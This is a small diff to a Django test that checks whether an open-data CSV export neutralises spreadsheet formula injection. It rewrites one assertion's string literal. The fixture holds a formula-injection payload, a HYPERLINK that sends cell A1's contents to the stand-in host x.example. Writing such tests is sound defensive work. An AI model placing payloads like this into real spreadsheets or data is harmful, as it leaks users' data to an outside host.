@@ -192,7 +192,7 @@ def test_open_data_csv_does_not_hand_a_spreadsheet_a_formula(client, tree, clerk
     publish(clerk, tree.commune, title='=HYPERLINK("http://x.example/?"&A1,"Xem")', document_number="@SUM(1+1)")
     csv_text = client.get(reverse("portal:open_data_csv", args=[tree.commune.code])).content.decode("utf-8-sig")
     row = next(csv.DictReader(io.StringIO(csv_text)))
-    assert row["title"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")"
+    assert row["title"] == '\'=HYPERLINK("http://x.example/?"&A1,"Xem")'
     assert row["document_number"] == "'@SUM(1+1)"
 
 
